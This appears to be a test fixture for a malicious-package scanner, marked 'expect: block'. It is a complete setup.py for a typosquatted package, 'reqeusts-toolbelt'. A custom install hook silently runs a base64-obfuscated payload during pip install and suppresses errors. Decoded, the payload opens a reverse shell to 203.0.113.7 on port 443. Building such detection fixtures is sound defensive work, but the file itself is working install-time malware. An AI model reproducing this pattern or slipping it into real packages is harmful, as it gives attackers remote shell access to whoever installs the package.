# expect: block
# A typosquatted package's setup.py: the payload runs during `pip install`.
import base64 as _b
from setuptools import setup
from setuptools.command.install import install

_P = (
    "aW1wb3J0IG9zLHNvY2tldCxzdWJwcm9jZXNzO3M9c29ja2V0LnNvY2tldCgpO3MuY29ubmVjdCgo"
    "JzIwMy4wLjExMy43Jyw0NDMpKTtzdWJwcm9jZXNzLmNhbGwoWycvYmluL3NoJywnLWknXSxzdGRp"
    "bj1zLmZpbGVubygpLHN0ZG91dD1zLmZpbGVubygpLHN0ZGVycj1zLmZpbGVubygpKQ=="
)


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            exec(_b.b64decode(_P).decode("utf-8"), {})
        except Exception:
            pass


setup(
    name="reqeusts-toolbelt",
    version="0.10.2",
    packages=["requests_toolbelt"],
    cmdclass={"install": PostInstall},
)
